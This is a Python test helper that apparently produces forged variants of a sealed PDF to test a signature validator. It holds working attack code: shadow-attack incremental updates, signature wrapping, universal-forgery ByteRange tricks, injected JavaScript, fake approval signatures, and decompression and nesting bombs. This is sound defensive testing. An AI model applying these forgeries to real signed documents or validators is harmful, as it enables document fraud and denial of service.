"""Ways to tamper with a sealed PDF. Each takes the file and returns the forgery; none reads the clock or chance."""

from __future__ import annotations

import random
import re
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import PdfSignatureMetadata
from pyhanko.sign.fields import SigFieldSpec, append_signature_field
from pyhanko.sign.validation.dss import DocumentSecurityStore

from tests.evidence.verification import lab

Forge = Callable[[bytes], bytes]
_RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]")
FORGED = b"BT /F1 24 Tf 72 600 Td (Everything was deleted.) Tj ET"


class Quiet(IncrementalPdfFileWriter):
    """Appends a revision that leaves metadata alone, as a careful forger does."""

    def _update_meta(self) -> None:
        pass


def appended(change: Callable[[Quiet], None]) -> Forge:
    """Return the attack that appends one revision with the change (an incremental update)."""

    def forge(data: bytes) -> bytes:
        writer = Quiet(BytesIO(data))
        change(writer)
        out = BytesIO()
        writer.write(out)
        return out.getvalue()

    return forge


def page(writer: Quiet) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0]


def mark(writer: Quiet, thing: generic.PdfObject) -> None:
    writer.update_container(thing)


# --- changes inside the file -----------------------------------------------------------------------------------


def ranges(data: bytes, which: int = 0) -> tuple[int, int, int]:
    """End of the first, begin of the second, and end of the second signed range of the n-th signature."""
    first, second, last = (int(n) for n in list(_RANGE.finditer(data))[which].groups())
    return first, second, second + last


def flipped(data: bytes, at: int, bit: int = 0) -> bytes:
    forged = bytearray(data)
    forged[at] ^= 1 << bit
    return bytes(forged)


def stream_flipped(data: bytes) -> bytes:
    """One bit of the page's compressed content."""
    with pikepdf.open(BytesIO(data)) as pdf:
        raw = pdf.pages[0].Contents.read_raw_bytes()
    return flipped(data, data.index(raw) + len(raw) // 2)


def record_flipped(data: bytes) -> bytes:
    """One bit of the attached record."""
    with pikepdf.open(BytesIO(data)) as pdf:
        raw = pdf.Root.AF[0].EF.F.read_raw_bytes()
    return flipped(data, data.index(raw) + len(raw) // 2)


def signature_value(which: int) -> Forge:
    """One bit of the signature's value, the last octets of the CMS before its unsigned attributes."""

    def forge(data: bytes) -> bytes:
        signature = PdfFileReader(BytesIO(data)).embedded_signatures[which]
        value = signature.signer_info["signature"].native.hex().encode()
        at = data.lower().index(value) + len(value) // 2
        digit = data[at : at + 1]
        return data[:at] + (b"0" if digit != b"0" else b"1") + data[at + 1 :]

    return forge


def padding(which: int) -> Forge:
    """A digit in the zeros after the signature."""

    def forge(data: bytes) -> bytes:
        _, second, _ = ranges(data, which)
        assert data[second - 9 : second] == b"00000000>"
        return data[: second - 5] + b"7" + data[second - 4 :]

    return forge


def hex_case(which: int) -> Forge:
    """The same signature, one hexadecimal digit in the other case."""

    def forge(data: bytes) -> bytes:
        first, second, _ = ranges(data, which)
        at = next(i for i in range(first + 40, second) if data[i : i + 1].isalpha())
        return data[:at] + data[at : at + 1].swapcase() + data[at + 1 :]

    return forge


def root_copy(which: int) -> Forge:
    """One bit of the signature in the copy of a root certificate that the n-th signature carries along."""

    def forge(data: bytes) -> bytes:
        root = (lab.ours() if which == 0 else lab.tsa()).root.signature.hex().encode()
        first, second, _ = ranges(data, which)
        at = data.lower().index(root, first, second) + len(root) // 2
        return data[:at] + (b"4" if data[at : at + 1] != b"4" else b"5") + data[at + 1 :]

    return forge


# --- changes appended ------------------------------------------------------------------------------------------


def page_replaced(writer: Quiet) -> None:
    target = page(writer)
    target["/Contents"] = writer.add_object(generic.StreamObject(stream_data=FORGED))
    mark(writer, target)


def content_overridden(writer: Quiet) -> None:
    """The old content object gets a new value: a shadow attack that replaces."""
    reference = page(writer).raw_get("/Contents")
    writer.mark_update(reference)
    stream = reference.get_object()
    stream._data, stream._encoded_data = FORGED, None
    for entry in ("/Filter", "/DecodeParms"):
        stream.pop(entry, None)


def annotation_added(writer: Quiet) -> None:
    target = page(writer)
    note = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (50, 500, 550, 700)]),
        pdf_name("/Contents"): generic.TextStringObject("Everything was deleted."),
        pdf_name("/DA"): generic.TextStringObject("/Helv 20 Tf 0 g"),
    })  # fmt: skip
    target["/Annots"] = generic.ArrayObject([*target.get("/Annots", ()), writer.add_object(note)])
    mark(writer, target)


def script_added(writer: Quiet) -> None:
    writer.root["/OpenAction"] = generic.DictionaryObject({pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert(1)")})
    writer.update_root()


def attachment_added(writer: Quiet) -> None:
    file = generic.StreamObject(stream_data=b'{"statement":"Everything was deleted."}')
    spec = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/F"): generic.TextStringObject("record.json"),
        pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): writer.add_object(file)}),
    })  # fmt: skip
    writer.root["/AF"] = generic.ArrayObject([writer.add_object(spec)])
    writer.update_root()


def record_overridden(writer: Quiet) -> None:
    reference = writer.root["/AF"][0]["/EF"].raw_get("/F")
    writer.mark_update(reference)
    stream = reference.get_object()
    stream._data, stream._encoded_data = b'{"statement":"Everything was deleted."}', None
    stream.pop("/Filter", None)


def page_added(writer: Quiet) -> None:
    extra = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        pdf_name("/Resources"): generic.DictionaryObject(), pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=FORGED)),
    })  # fmt: skip
    writer.insert_page(extra)


def xmp_overridden(writer: Quiet) -> None:
    reference = writer.root.raw_get("/Metadata")
    writer.mark_update(reference)
    stream = reference.get_object()
    stream._data, stream._encoded_data = stream.data.replace(b"A sample", b"Another "), None
    stream.pop("/Filter", None)


def xmp_replaced(writer: Quiet) -> None:
    old = writer.root["/Metadata"].data
    new = generic.StreamObject(stream_data=old.replace(b"A sample", b"Another "))
    new["/Type"], new["/Subtype"] = pdf_name("/Metadata"), pdf_name("/XML")
    writer.root["/Metadata"] = writer.add_object(new)
    writer.update_root()


def title_forged(writer: Quiet) -> None:
    info = generic.DictionaryObject({**writer.prev.trailer["/Info"], pdf_name("/Title"): generic.TextStringObject("Another document")})
    writer.set_info(writer.add_object(info))


def junk_store(writer: Quiet) -> None:
    """A store of proofs that proves nothing."""
    from asn1crypto import x509 as asn1

    junk = [asn1.Certificate.load(lab.der(lab.impostor().root))]
    DocumentSecurityStore.supply_dss_in_writer(writer, None, certs=junk)


def store_and_page(writer: Quiet) -> None:
    """A change of the page hidden beside proofs."""
    junk_store(writer)
    content_overridden(writer)


def copied_signature(writer: Quiet) -> None:
    """A second, visible signature field that shows a copy of the seal."""
    seal = next(f.get_object() for f in writer.root["/AcroForm"]["/Fields"] if f.get_object()["/T"] == "Seal")
    field = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"), pdf_name("/FT"): pdf_name("/Sig"),
        pdf_name("/T"): generic.TextStringObject("Approval"), pdf_name("/V"): seal.raw_get("/V"), pdf_name("/F"): generic.NumberObject(132),
        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (50, 500, 550, 700)]), pdf_name("/P"): page(writer).container_ref and writer.root["/Pages"]["/Kids"].raw_get(0),
    })  # fmt: skip
    form = writer.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject([*form["/Fields"], writer.add_object(field)])
    mark(writer, form)


def stranger_signs(data: bytes) -> bytes:
    """Somebody else adds a visible signature of his own: allowed by plain signatures and by P=2, and used to fake approvals."""
    writer = Quiet(BytesIO(data))
    append_signature_field(writer, SigFieldSpec("Approval", box=(50, 500, 550, 700)))
    out = BytesIO()
    writer.write(out)
    return lab.sign(out.getvalue(), PdfSignatureMetadata(field_name="Approval", md_algorithm="sha256"), lab.impostor())


def signature_removed(writer: Quiet) -> None:
    """The field is emptied: readers show an unsigned document."""
    for field in writer.root["/AcroForm"]["/Fields"]:
        if field.get_object().pop("/V", None) is not None:
            mark(writer, field.get_object())
    writer.root.pop("/Perms", None)
    writer.update_root()


# --- bytes beside the structure --------------------------------------------------------------------------------


def moved_range(data: bytes) -> bytes:
    """Signature wrapping: the second signed range moves back, something unsigned takes its place."""
    _, second, _ = ranges(data)
    unsigned = b" " * 64
    found = next(_RANGE.finditer(data))
    old = found.group()
    new = old.replace(b" %d " % second, b" %d " % (second + len(unsigned)))
    assert len(new) == len(old)
    return data[: found.start()] + new + data[found.end() : second] + unsigned + data[second:]


def range_zeroed(data: bytes) -> bytes:
    """Universal forgery: a signed range that is empty."""
    found = next(_RANGE.finditer(data))
    return data[: found.start()] + b"/ByteRange [0 0 0 0]".ljust(len(found.group())) + data[found.end() :]


def range_missing(data: bytes) -> bytes:
    """Universal forgery: no signed range at all."""
    return data.replace(b"/ByteRange", b"/ByteRangf", 1)


def contents_zeroed(data: bytes) -> bytes:
    """Universal forgery: a signature of zeros."""
    first, second, _ = ranges(data)
    return data[: first + 1] + b"0" * (second - first - 2) + data[second - 1 :]


def rewritten(data: bytes) -> bytes:
    """Read and saved anew by another program."""
    out = BytesIO()
    with pikepdf.open(BytesIO(data)) as pdf:
        pdf.save(out, deterministic_id=True)
    return out.getvalue()


def cut_to_unsigned(data: bytes) -> bytes:
    """Cut back to the revision before the seal."""
    assert data.startswith(lab.unsealed())
    return lab.unsealed()


def stamp_cut(data: bytes) -> bytes:
    """The archive time-stamp's revision cut off."""
    return data[: ranges(data, 0)[2]]


def saved_often(times: int) -> Forge:
    """So many revisions appended that comparing them all would take long."""

    def forge(data: bytes) -> bytes:
        for _ in range(times):
            data = appended(lambda writer: writer.add_object(generic.NullObject()) and None)(data)
        return data

    return forge


def previous_loop(data: bytes) -> bytes:
    """The chain of revisions runs in a circle."""
    end = data.rfind(b"startxref")
    newest = int(data[end:].split()[1])
    previous = re.search(rb"/Prev \d+", data[newest:])
    assert previous is not None
    return data[:end].replace(previous.group(), b"/Prev %d" % newest) + data[end:]


def fields_loop(writer: Quiet) -> None:
    """A form field that contains itself, several times."""
    field = generic.DictionaryObject({pdf_name("/T"): generic.TextStringObject("x")})
    reference = writer.add_object(field)
    field["/Kids"] = generic.ArrayObject([reference] * 3)
    form = writer.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject([*form["/Fields"], reference])
    mark(writer, form)


def many_signatures(writer: Quiet) -> None:
    """Thousands of fields that all show the seal."""
    form = writer.root["/AcroForm"]
    seal = next(f.get_object() for f in form["/Fields"] if f.get_object()["/T"] == "Seal")
    for number in range(1000):
        field = {"/FT": pdf_name("/Sig"), "/T": generic.TextStringObject(f"S{number}"), "/V": seal.raw_get("/V")}
        form["/Fields"].append(writer.add_object(generic.DictionaryObject({pdf_name(name): value for name, value in field.items()})))
    mark(writer, form)


def list_bomb(writer: Quiet) -> None:
    """A list of revoked certificates that unpacks to 300 MB."""
    stream = generic.StreamObject(encoded_data=zlib.compress(bytes(300 << 20), 1))
    stream["/Filter"] = pdf_name("/FlateDecode")
    reference = writer.add_object(stream)
    entries = {pdf_name(name): generic.ArrayObject([reference]) for name in ("/CRLs", "/Certs")}
    writer.root["/DSS"] = writer.add_object(generic.DictionaryObject(entries))
    writer.update_root()


def nested(depth: int) -> bytes:
    """Lists within lists, so deep that a recursive reader falls over."""
    body = b"%PDF-1.7\n1 0 obj\n" + b"[" * depth + b"]" * depth + b"\nendobj\n"
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<</Size 2/Root 1 0 R>>\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def format_name(data: bytes) -> bytes:
    """The seal calls itself something that no reader knows."""
    return data.replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detachee", 1)


@cache
def bomb(unpacked: int) -> bytes:
    """A file whose catalogue lies in an object stream that unpacks to so many bytes."""
    packer = zlib.compressobj(1)
    first = b"1 0 " + b" " * 4
    body = b"".join([packer.compress(first + b"<</Type/Catalog/Pages 3 0 R>>"), *(packer.compress(bytes(1 << 20)) for _ in range(unpacked >> 20)), packer.flush()])
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = len(out)
    out += b"2 0 obj\n<</Type/ObjStm/N 1/First 8/Filter/FlateDecode/Length %d>>\nstream\n" % len(body) + body + b"\nendstream\nendobj\n"
    xref = len(out)
    rows = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([index]) for kind, place, index in ((0, 0, 255), (2, 2, 0), (1, at, 0), (0, 0, 0), (1, xref, 0)))
    out += b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(rows) + rows + b"\nendstream\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref)


def garbage(size: int) -> bytes:
    """Noise with a PDF's first line."""
    return b"%PDF-1.7\n" + random.Random(33).randbytes(size - 9)
